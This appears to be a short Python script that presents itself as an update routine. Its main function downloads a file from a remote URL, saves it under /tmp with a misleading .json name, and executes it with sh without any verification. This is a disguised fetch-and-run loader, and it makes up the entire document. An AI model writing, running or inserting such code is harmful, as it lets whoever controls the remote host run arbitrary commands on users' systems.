import subprocess, urllib.request

def main():
    path = "/tmp/update.json"
    urllib.request.urlretrieve("https://cdn.fetchdoc.example.com/update", path)
    subprocess.run(["sh", path], check=False)
